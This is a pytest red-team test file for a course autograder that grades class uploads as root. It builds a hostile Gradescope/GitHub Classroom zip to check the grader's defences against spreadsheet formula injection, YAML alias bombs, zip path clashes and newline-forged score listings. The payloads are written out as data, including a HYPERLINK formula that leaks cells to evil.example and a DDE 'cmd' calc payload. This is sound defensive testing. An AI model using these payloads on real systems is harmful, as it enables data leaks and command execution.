"""Red team, the class pipeline: root's code reading what a class uploaded.

An instructor downloads a class (Gradescope's export, a GitHub Classroom zip) and runs
`grade-class` as root. Every byte of it that a student chose reaches root's intake and the
files the instructor opens: names and e-mails (Gradescope takes them from the students), folder
and file names, the zip's members, `submission_metadata.yml`. Each attack below is a real class
upload; each won before its defence:

- names like `=HYPERLINK(...)` in grades.csv: LibreOffice made the cell a formula (Excel also
  runs `+`, `-` and `@` cells);
- a 58-byte metadata file with a self-referencing alias: `grade-class` died of RecursionError
  and nobody was graded; a 389-byte alias bomb grew the intake to 3.7 GB (MemoryError under a
  4 GB limit, 69 s);
- a zip member `x/buddy.py` followed by `x/buddy.py/y/`: `--prepare-only` died of
  NotADirectoryError and no classmate was prepared; a zip filled to its cap was on disk twice;
- a folder named "x\\n✓ task1 8/8 … total 110/110": the "Submission files" listing printed the
  forged score table in the output and in results.json.

The quick tests run each attack on the intake alone. The integration tests grade the hostile
class with `grade-class` as root under a pool of sandbox users (Task 12 only: the attacks are
in the intake and the class files, not in the checks), once, and read every file it wrote.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from spreadsheet import open_csv
from test_redteam import ROOT, grade_as_pool, sandbox_user  # noqa: F401 - a fixture

from pagedlab.grader import class_report, classroom, intake, submission
from pagedlab.untrusted import inert_cell

SOLUTION = (ROOT / "solutions" / "buddy.py").read_text()
STUB = (ROOT / "exercises" / "buddy.py").read_text()

# What a spreadsheet evaluates (OWASP's CSV injection rule), as a student would write it into
# the name and e-mail Gradescope exports, or into a folder's name.
FORMULA_NAMES = {
    "submission_102": ('=HYPERLINK("http://evil.example/?leak="&A1&B1,"open the grades")',
                       "+1+cmd|' /C calc'!A0"),
    "submission_103": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
    "submission_104": ("\t=1+1", "\r=2+2"),
}
FORMULA_START = tuple("=+-@\t\r")

# A folder name that prints a score table when listed raw.
FORGED_TABLE = "\n✓ task12 4/4 FORGED\ntotal 110/110\n"
FORGED_FOLDER = f"x{FORGED_TABLE}y"

# A self-referencing alias: the node is a mapping that holds itself.
RECURSIVE_METADATA = "submission_1: &s\n  :submitters:\n  - :name: Eve\n    :x: *s\n"


def alias_bomb() -> str:
    """Eight lines, each ten aliases of the line before: 10**8 strings once expanded."""
    text = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for prev, name in zip("abcdefg", "bcdefgh"):
        text += f"{name}: &{name} [" + ",".join([f"*{prev}"] * 10) + "]\n"
    return text + "submission_1:\n  :submitters:\n  - :name: Eve\n    :x: *h\n"


def metadata(people: dict[str, tuple[str, str]]) -> str:
    """Gradescope's submission_metadata.yml (Ruby symbols as keys); names written as YAML
    double-quoted scalars, which is what JSON strings are."""
    return "".join(f"{folder}:\n  :submitters:\n  - :name: {json.dumps(name)}\n    :email: {json.dumps(email)}\n"
                   f"  :created_at: 2026-11-20 10:00:00.000000000 -08:00\n  :score: 0.0\n"
                   for folder, (name, email) in people.items())


def bomb_files() -> dict[str, str]:
    """Every file the grader takes, each just under its 1 MB cap (comments: they compress to
    nothing)."""
    big = {}
    for name in submission.SUBMISSION_FILES:
        line = "//\n" if name.endswith((".cu", ".c")) else "#\n"
        big[name] = line * ((submission.MAX_FILE_BYTES - 1) // len(line))
    return big


def hostile_class(path: Path) -> Path:
    """The class zip: a Gradescope export with student-chosen names, folders a class zip may
    hold besides (GitHub Classroom's), and the attacks. Honest: Ada, `-2-3` and zed.
    submission_104 also uploads the forged folder; mallory the file-then-folder member and a
    zip filled with 1 MB files."""
    people = {"submission_101": ("Ada Lovelace", "ada@example.edu"), **FORMULA_NAMES}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        top = "assignment_41_export/"
        zf.writestr(top + intake.METADATA, metadata(people))
        zf.writestr(top + "submission_101/buddy.py", SOLUTION)
        zf.writestr(top + "submission_102/buddy.py", STUB)
        zf.writestr(top + "submission_103/buddy.py", STUB)
        zf.writestr(f"{top}submission_104/{FORGED_FOLDER}/buddy.py", STUB)
        zf.writestr(top + "-2-3/buddy.py", SOLUTION)  # its key starts with "-"
        zf.writestr(top + "mallory/x/buddy.py", STUB)
        zf.writestr(top + "mallory/x/buddy.py/y/", "")
        for name, text in bomb_files().items():
            zf.writestr(f"{top}mallory/{name}", text)
        zf.writestr(top + "zed/buddy.py", SOLUTION)
    path.chmod(0o600)  # grade-class under a pool refuses uploads others can read
    return path


HONEST = {"submission_101": 4.0, "-2-3": 4.0, "zed": 4.0}
ATTACKERS = {"submission_102": 0.0, "submission_103": 0.0, "submission_104": 0.0, "mallory": 0.0}


def disk_bytes(top: Path) -> int:
    """Bytes of the regular files under `top`, each inode counted once (hard links share)."""
    seen, total = set(), 0
    for folder, _, names in os.walk(top):
        for name in names:
            st = os.lstat(os.path.join(folder, name))
            if (st.st_dev, st.st_ino) not in seen:
                seen.add((st.st_dev, st.st_ino))
                total += st.st_size
    return total


def forged_lines(text: str) -> list[str]:
    """Lines of `text` where the forged table stands where the grader writes its own: the score
    table and the task lines at the margin, a check's line two spaces in. (A message quoting the
    student's text, an exception's, is indented under its check, deeper than any of those.)"""
    return [line for line in text.splitlines() if re.match(r" {0,2}(✓ task12 4/4 FORGED|total 110/110)", line)]


# ---------------------------------------------------------------------------------------------
# grades.csv: no cell a spreadsheet evaluates
# ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
                                  "  =1+1", "\uff1dSUM(1)", "-", "+"])
def test_a_cell_a_spreadsheet_would_evaluate_is_text(text):
    cell = inert_cell(text)
    assert cell.startswith("'") or cell.startswith("\\"), cell
    assert "\n" not in cell and "\t" not in cell and "\r" not in cell


@pytest.mark.parametrize("text", ["Ada Lovelace", "ada@example.edu", "a-b", "O'Brien", "", "submission_101"])
def test_plain_names_are_written_as_they_are(text):
    assert inert_cell(text) == text


def test_every_csv_the_course_writes_neutralises_its_cells():
    """A CSV writer anywhere in the package must pass its cells through inert_cell: grades.csv's
    is the only one today, and a new one (a similarity CSV, say) must not forget it."""
    writers = []
    for path in (ROOT / "pagedlab").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", text):
            writers.append(path.relative_to(ROOT).as_posix())
            assert "inert_cell(" in text, f"{path}: a CSV writer whose cells skip untrusted.inert_cell"
    assert writers == ["pagedlab/grader/class_report.py"], writers


def _grades(tmp_path: Path, people: dict[str, tuple[str, str]], scores: dict[str, float]) -> Path:
    """grades.csv of a class as class-report writes it, from records (no grading)."""
    records = [class_report.Record(key, name, email, "graded", scores[key], 4.0,
                                   {"task12": (scores[key], 4.0, "passed" if scores[key] else "failed")})
               for key, (name, email) in people.items()]
    path = tmp_path / "grades.csv"
    class_report.write_csv(records, path)
    return path


def _assert_inert(path: Path, numeric: tuple[str, ...] = ("total", "max", "task12")) -> list[dict]:
    """Open `path` in LibreOffice: no cell is a formula, no text cell starts with what a
    spreadsheet evaluates, the grader's score columns are numbers. The rows, as the sheet shows them."""
    sheet = open_csv(path)
    formulas = [(r, c, cell.formula) for r, row in enumerate(sheet) for c, cell in enumerate(row) if cell.formula]
    assert formulas == [], f"cells the spreadsheet evaluates: {formulas}"
    header = [cell.text for cell in sheet[0]]
    rows = []
    for row in sheet[1:]:
        cells = dict(zip(header, row))
        for column, cell in cells.items():
            if column in numeric and cell.text:
                assert cell.kind == "float", (column, cell)
            else:
                assert not cell.text.startswith(FORMULA_START), (column, cell)
        rows.append({column: cell.text for column, cell in cells.items()})
    return rows


@pytest.mark.integration  # LibreOffice (about 4 s a file)
def test_grades_csv_opened_in_a_spreadsheet_runs_no_formula(tmp_path):
    people = {"ada": ("Ada Lovelace", "ada@example.edu"), "-2-3": ("-2-3", "x@example.edu"),
              **{key: pair for key, pair in zip(("eve", "fay", "gus"), FORMULA_NAMES.values())}}
    scores = {"ada": 4.0, "-2-3": 4.0, "eve": 0.0, "fay": 0.0, "gus": 0.0}
    rows = _assert_inert(_grades(tmp_path, people, scores))
    by_key = {row["key"].removeprefix("'"): row for row in rows}
    assert by_key["ada"]["name"] == "Ada Lovelace" and by_key["ada"]["total"] == "4"
    assert by_key["eve"]["name"] == "'" + FORMULA_NAMES["submission_102"][0]  # shown, as text
    assert by_key["gus"]["name"] == "\\t=1+1"


# ---------------------------------------------------------------------------------------------
# submission_metadata.yml: no alias to a collection, capped before and while parsing
# ---------------------------------------------------------------------------------------------
def _export(tmp_path: Path, meta: str) -> Path:
    """A Gradescope export (as a zip) of two honest students with `meta` as its metadata."""
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("export/" + intake.METADATA, meta)
        for folder in ("submission_1", "submission_2"):
            zf.writestr(f"export/{folder}/buddy.py", SOLUTION)
    archive.chmod(0o600)
    return archive


def test_a_self_referencing_metadata_alias_is_refused_and_the_class_is_found(tmp_path):
    found = intake.discover(_export(tmp_path, RECURSIVE_METADATA), tmp_path / "unpacked")
    assert [s.key for s in found.students] == ["submission_1", "submission_2"]
    assert [s.name for s in found.students] == ["", ""]
    assert any(line.startswith(f"refused {intake.METADATA}: an alias") for line in found.refused), found.refused


# Run in a child with 1 GB of address space: were the bomb expanded again, that child would die
# of MemoryError instead of the test worker taking the machine's memory.
BOMB_CHILD = textwrap.dedent('''
    import resource, sys, time
    from pathlib import Path
    resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30))
    from pagedlab.grader import intake
    began = time.process_time()
    try:
        intake.read_metadata(Path(sys.argv[1]))
        said = "read"
    except intake.MetadataRefused as exc:
        said = f"refused: {exc}"
    # VmHWM: this process's own peak. ru_maxrss is not: on Linux it keeps the peak of the image
    # before exec, and a vfork'd child's is its parent's (a 1 GB pytest worker read as 995 MB).
    peak_kb = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:"))
    print(said, f"{time.process_time() - began:.2f}", peak_kb // 1024)
''')


def test_an_alias_bomb_is_refused_before_it_grows(tmp_path):
    path = tmp_path / intake.METADATA
    path.write_text(alias_bomb())
    run = subprocess.run([sys.executable, "-c", BOMB_CHILD, str(path)], capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
    assert run.returncode == 0, run.stderr[-2000:]
    said, seconds, rss_mb = run.stdout.rsplit(" ", 2)
    assert said.startswith("refused: an alias"), said
    assert float(seconds) < 5 and int(rss_mb) < 200, (seconds, rss_mb)


@pytest.mark.parametrize("meta, why", [
    ("[" * 100_000, "nested over"),
    ("a: [" + "1," * 3000 + "1]\n", "values"),  # over the budget (lowered to 2000 below)
    ("submission_1: {created_at: 2026-02-31 10:00:00}\n", "not readable YAML"),
    ("submission_1: [unclosed\n", "not readable YAML"),
    ("- a list, not a mapping\n", "expected a mapping"),
], ids=["100000-deep", "3000-values", "31-february", "unclosed", "a-list"])
def test_metadata_over_a_cap_or_broken_is_refused_in_one_line(tmp_path, monkeypatch, meta, why):
    monkeypatch.setattr(intake, "MAX_METADATA_NODES", 2000)
    path = tmp_path / intake.METADATA
    path.write_text(meta)
    with pytest.raises(intake.MetadataRefused, match=why):
        intake.read_metadata(path)


def test_metadata_over_its_size_cap_is_refused_unread(tmp_path, monkeypatch):
    path = tmp_path / intake.METADATA
    path.write_text("a: b\n" * 1000)
    monkeypatch.setattr(intake, "MAX_METADATA_BYTES", 1000)
    import yaml

    monkeypatch.setattr(yaml, "load", lambda *a, **k: pytest.fail("parsed a file over the cap"))
    with pytest.raises(intake.MetadataRefused, match="over the 0 MB limit|MB, over"):
        intake.read_metadata(path)


def test_an_export_with_shared_scalars_keeps_its_names(tmp_path):
    """A writer may share a repeated string through an alias (Ruby's Psych does): a scalar alias
    cannot grow or refer to itself, so it stays readable."""
    path = tmp_path / intake.METADATA
    path.write_text("submission_1:\n  :submitters:\n  - :name: &n Ada\n    :email: a@x\n"
                    "submission_2:\n  :submitters:\n  - :name: *n\n    :email: b@x\n")
    assert intake.read_metadata(path) == {"submission_1": {"name": "Ada", "email": "a@x"},
                                          "submission_2": {"name": "Ada", "email": "b@x"}}


def test_a_metadata_link_is_never_followed(tmp_path):
    (tmp_path / "secret.yml").write_text("submission_1:\n  :submitters:\n  - :name: Root\n")
    (tmp_path / intake.METADATA).symlink_to(tmp_path / "secret.yml")
    with pytest.raises(OSError):
        intake.read_metadata(tmp_path / intake.METADATA)


# ---------------------------------------------------------------------------------------------
# The class zip: one student's members are that student's problem; on disk once
# ---------------------------------------------------------------------------------------------
def test_a_file_then_a_folder_of_its_name_is_that_students_refusal(tmp_path):
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("class/ada/buddy.py", SOLUTION)
        zf.writestr("class/mallory/x/buddy.py", STUB)
        zf.writestr("class/mallory/x/buddy.py/y/", "")
        zf.writestr("class/mallory/x/memory_manager.py/", "")  # a folder first, then a file
        zf.writestr("class/mallory/x/memory_manager.py", STUB)
        zf.writestr("class/zed/buddy.py", SOLUTION)
    out = tmp_path / "out"
    said: list[str] = []
    students = classroom.prepare(archive, out, echo=said.append)
    assert [s.key for s in students] == ["ada", "mallory", "zed"]
    for who in ("ada", "zed"):
        assert (out / "students" / who / "files" / "buddy.py").read_text() == SOLUTION
    mine = (out / "students" / "mallory" / "intake.txt").read_text()
    assert "refused class/mallory/x/buddy.py/y/: cannot be written here" in mine, mine
    assert "refused class/mallory/x/memory_manager.py: the same path twice" in mine, mine
    assert any("x/buddy.py/y/" in line for line in said)
    assert "buddy.py/y" not in (out / "students" / "ada" / "intake.txt").read_text()


def test_a_class_zip_at_its_cap_is_on_disk_once(tmp_path):
    """Every taken file of a zip is a hard link into the unpacked tree, not a second copy."""
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for who in ("s1", "s2"):
            for name, text in bomb_files().items():
                zf.writestr(f"class/{who}/{name}", text)
    out = tmp_path / "out"
    classroom.prepare(archive, out, echo=lambda *a: None)
    unpacked = disk_bytes(out / "unpacked")
    taken = sum(p.stat().st_size for p in (out / "students").rglob("files/*"))
    assert taken == unpacked > 2 * len(submission.SUBMISSION_FILES) * (submission.MAX_FILE_BYTES - 4)
    assert disk_bytes(out) < unpacked + 2**16, (disk_bytes(out), unpacked)


def test_a_class_folder_is_still_copied(tmp_path):
    """Uploads in the instructor's folder are not the grader's: copied, never linked (a later
    change there must not reach the files already hashed and graded)."""
    (tmp_path / "class" / "ann").mkdir(parents=True)
    (tmp_path / "class" / "bob").mkdir()
    (tmp_path / "class" / "ann" / "buddy.py").write_text(SOLUTION)
    classroom.prepare(tmp_path / "class", tmp_path / "out", echo=lambda *a: None)
    taken = tmp_path / "out" / "students" / "ann" / "files" / "buddy.py"
    assert taken.stat().st_nlink == 1 and not os.path.samefile(taken, tmp_path / "class" / "ann" / "buddy.py")


# ---------------------------------------------------------------------------------------------
# Names on one escaped line
# ---------------------------------------------------------------------------------------------
def test_a_folder_name_with_newlines_is_listed_on_one_line(tmp_path):
    upload = tmp_path / "upload"
    (upload / FORGED_FOLDER).mkdir(parents=True)
    (upload / FORGED_FOLDER / "buddy.py").write_text(STUB)
    (upload / f"link{FORGED_TABLE}").mkdir(parents=True)
    (upload / f"link{FORGED_TABLE}" / "swap.py").symlink_to("/etc/passwd")
    _, found = submission.prepare(upload, tmp_path / "taken")
    assert forged_lines(found) == [], found
    assert "x\\n✓ task12 4/4 FORGED\\ntotal 110/110\\ny/buddy.py" in found
    assert "refused link\\n✓ task12" in found


# ---------------------------------------------------------------------------------------------
# The class graded as root, under a pool of sandbox users
# ---------------------------------------------------------------------------------------------
POOL = ["pagedlab-sandbox-cl0", "pagedlab-sandbox-cl1"]


@pytest.fixture(scope="module")
def pool_users(sandbox_user):  # noqa: F811 - the probe that the sandbox users can run Python
    mp = pytest.MonkeyPatch()
    grade_as_pool(POOL, mp)
    private = [ROOT / "solutions", ROOT / "pagedlab" / "grader" / "expected.json"]
    modes = {p: p.stat().st_mode for p in private}
    for p in private:
        p.chmod(0o700 if p.is_dir() else 0o600)
    yield POOL
    for p, mode in modes.items():
        p.chmod(mode)
    mp.undo()


def _grade_class(source: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pagedlab", "grade-class", str(source), "--out", str(out),
                           "--tasks", "12", "--no-hidden", *extra],
                          capture_output=True, text=True, timeout=1200, cwd=ROOT,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})


@pytest.fixture(scope="module")
def hostile_run(pool_users, tmp_path_factory):
    """The hostile class graded once with two jobs under the pool; every test below reads it."""
    top = tmp_path_factory.mktemp("hostile-class")
    top.chmod(0o700)
    archive = hostile_class(top / "class.zip")
    out = top / "out"
    run = _grade_class(archive, out, "--jobs", "2")
    return archive, out, run


def _rows(out: Path) -> dict[str, dict]:
    return {row["key"].removeprefix("'"): row
            for row in csv.DictReader(io.StringIO((out / "grades.csv").read_text(encoding="utf-8")))}


@pytest.mark.integration
@pytest.mark.xdist_group("users")  # the sandbox pool (conftest.py)
def test_the_hostile_class_is_graded_every_student_with_a_row(hostile_run):
    archive, out, run = hostile_run
    assert run.returncode == 0, (run.stdout[-3000:], run.stderr[-3000:])
    rows = _rows(out)
    assert {k: float(r["total"]) for k, r in rows.items()} == {**HONEST, **ATTACKERS}, run.stdout[-3000:]
    assert {r["status"] for r in rows.values()} == {"graded"}
    users = {(out / "students" / key / "grade.log").read_text().split("runs as user ")[1].split(";")[0]
             for key in rows}
    assert users == {repr(name) for name in POOL}, users  # two jobs, each under its own user
    assert (out / class_report.PROBLEMS_LOG).read_text() == ""
    # mallory's bad member is her own refusal, said on the terminal and in her intake
    assert "refused assignment_41_export/mallory/x/buddy.py/y/: cannot be written here" in \
        (out / "students" / "mallory" / "intake.txt").read_text()


@pytest.mark.integration
@pytest.mark.xdist_group("users")
def test_the_hostile_class_grades_csv_runs_no_formula_in_a_spreadsheet(hostile_run):
    _, out, run = hostile_run
    assert run.returncode == 0, run.stderr[-3000:]
    rows = {row["key"].removeprefix("'"): row for row in _assert_inert(out / "grades.csv")}
    assert rows["submission_102"]["name"] == "'" + FORMULA_NAMES["submission_102"][0]
    assert rows["submission_103"]["email"] == "'-2+3" and rows["-2-3"]["key"] == "'-2-3"
    assert rows["submission_101"]["total"] == "4" and rows["-2-3"]["task12"] == "4"


@pytest.mark.integration
@pytest.mark.xdist_group("users")
def test_no_output_of_the_hostile_class_shows_a_forged_line(hostile_run):
    _, out, run = hostile_run
    texts = {"grade-class's terminal": run.stdout + run.stderr}
    for path in out.rglob("*"):
        if path.is_file() and path.suffix in (".txt", ".log", ".json", ".csv", ".html"):
            texts[str(path.relative_to(out))] = path.read_text(encoding="utf-8", errors="replace")
    for where, text in texts.items():
        assert forged_lines(text) == [], where
    assert "x\\n✓ task12 4/4 FORGED\\ntotal 110/110\\ny/buddy.py" in texts["students/submission_104/intake.txt"]


@pytest.mark.integration
@pytest.mark.xdist_group("users")
def test_the_hostile_class_zip_is_on_disk_once(hostile_run):
    archive, out, run = hostile_run
    assert run.returncode == 0 and (out / "grades.csv").is_file(), run.stderr[-3000:]
    with zipfile.ZipFile(archive) as zf:
        taken = set(submission.SUBMISSION_FILES) | {intake.METADATA}
        unpacked = sum(i.file_size for i in zf.infolist() if Path(i.filename).name in taken
                       and "/y/" not in i.filename and not i.is_dir())
    # unpacked once; the taken files are links to it; the rest is results and logs
    assert disk_bytes(out) < unpacked + 2**20, (disk_bytes(out), unpacked)


@pytest.mark.integration
@pytest.mark.xdist_group("users")
def test_a_self_referencing_metadata_alias_leaves_every_student_graded(pool_users, tmp_path):
    tmp_path.chmod(0o700)
    out = tmp_path / "out"
    run = _grade_class(_export(tmp_path, RECURSIVE_METADATA), out, "--jobs", "2")
    assert run.returncode == 0, (run.stdout[-3000:], run.stderr[-3000:])
    assert f"refused {intake.METADATA}: an alias" in run.stdout
    assert {k: float(r["total"]) for k, r in _rows(out).items()} == {"submission_1": 4.0, "submission_2": 4.0}


PEAK_OF_CHILD = textwrap.dedent('''
    import resource, subprocess, sys
    limit = lambda: resource.setrlimit(resource.RLIMIT_AS, (3 * 2**30, 3 * 2**30))  # the bomb: 3.7 GB
    code = subprocess.run(sys.argv[1:], timeout=300, preexec_fn=limit).returncode
    print("peak MB:", resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024, file=sys.stderr)
    sys.exit(code)
''')


@pytest.mark.integration
@pytest.mark.xdist_group("users")
def test_an_alias_bomb_in_a_class_upload_costs_root_nothing(pool_users, tmp_path):
    """The bomb through `grade-class --prepare-only` (the intake is where it went off): it ends
    at once, in little memory, with every student prepared."""
    tmp_path.chmod(0o700)
    out = tmp_path / "out"
    # A process of its own runs grade-class, so its children's peak is grade-class's alone.
    run = subprocess.run([sys.executable, "-c", PEAK_OF_CHILD, sys.executable, "-m", "pagedlab", "grade-class",
                          str(_export(tmp_path, alias_bomb())), "--out", str(out), "--prepare-only"],
                         capture_output=True, text=True, timeout=600, cwd=ROOT,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    rss_mb = int(run.stderr.rsplit("peak MB:", 1)[-1])
    assert run.returncode == 0, run.stderr[-3000:]
    assert f"refused {intake.METADATA}: an alias" in run.stdout
    assert sorted(p.name for p in (out / "students").iterdir()) == ["submission_1", "submission_2"]
    assert rss_mb < 400, rss_mb  # 3.7 GB and a MemoryError before


@pytest.mark.integration
@pytest.mark.xdist_group("users")
def test_a_forged_listing_reaches_neither_the_terminal_nor_results_json(pool_users, tmp_path):
    """What Gradescope runs (`pagedlab grade` on the raw upload, as root, the code as a sandbox
    user): the listing names the folder on one escaped line."""
    tmp_path.chmod(0o711)
    upload = tmp_path / "submission"
    (upload / FORGED_FOLDER).mkdir(parents=True)
    # ...and the same table in an exception's message: quoted, indented under each check
    (upload / FORGED_FOLDER / "buddy.py").write_text(STUB + f"\nraise ValueError({FORGED_TABLE!r})\n")
    upload.chmod(0o700)
    results = tmp_path / "results.json"
    run = subprocess.run([sys.executable, "-m", "pagedlab", "grade", "--impl", str(upload), "--tasks", "12",
                          "--no-hidden", "--json", str(results)], capture_output=True, text=True, timeout=600,
                         cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT), "PAGEDLAB_GRADE_USER": POOL[0]})
    assert run.returncode == 0, run.stderr[-3000:]
    assert f"the submission's code runs as user {POOL[0]!r}" in run.stdout, run.stdout[:1000]
    written = json.loads(results.read_text())
    assert written["score"] == 0
    assert forged_lines(run.stdout) == [] and forged_lines(written["output"]) == [], run.stdout[:2000]
    assert "x\\n✓ task12 4/4 FORGED" in written["output"]
    quoted = written["tests"][0]["output"]
    assert "      ✓ task12 4/4 FORGED" in quoted and forged_lines(quoted) == [], quoted[:2000]
